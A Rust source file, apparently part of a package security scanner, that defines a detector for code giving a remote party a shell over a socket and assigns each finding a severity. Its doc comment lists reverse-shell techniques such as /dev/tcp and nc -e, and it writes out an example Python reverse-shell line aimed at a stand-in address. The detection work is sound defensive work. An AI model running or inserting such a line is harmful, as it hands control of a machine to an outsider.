//! A shell is joined to a socket, so that somebody elsewhere types into it.
//!
//! **Why:** no library does that unasked, whatever the phrasing: duplicated descriptors, pipes, `/dev/tcp`, `nc -e`.
//!
//! **What to do:** do not run it. **Limits:** terminals over the network do it on demand for a caller's connection; with no address in the code that is told as medium.
//! **Example:** `s.connect(('203.0.113.7', 4444)); os.dup2(s.fileno(), 0); subprocess.call(['/bin/sh', '-i'])`.

use super::common::*;

pub(super) const DETECTOR: Detector = Detector {
    id: "behaviour/shell-reverse",
    catalogue: "SHELL-REVERSE",
    title: "gives a shell to somebody elsewhere",
    severity: Critical,
    ecosystems: &[],
    run,
};

fn run(package: &Package, findings: &mut Findings) {
    for (code, fact) in package.facts(&[What::SocketToProcess]) {
        let abroad = foreign(&fact.detail).is_some()
            || code.facts.facts.iter().any(|other| {
                matches!(other.what, What::ChannelReceive | What::NetSend | What::NetReceive)
                    && foreign(&other.detail).is_some()
            })
            || matches!(code.language, Some(Language::Shell | Language::Windows));
        let grade = match (early(code, fact), abroad) {
            (true, true) => (Critical, Sure),
            (true, false) => (Critical, Likely),
            (false, true) => (High, Likely),
            (false, false) => (Medium, Likely),
        };
        findings.tell(code, fact, grade, &format!("joins a shell to a socket {}", when(code, fact)));
    }
}
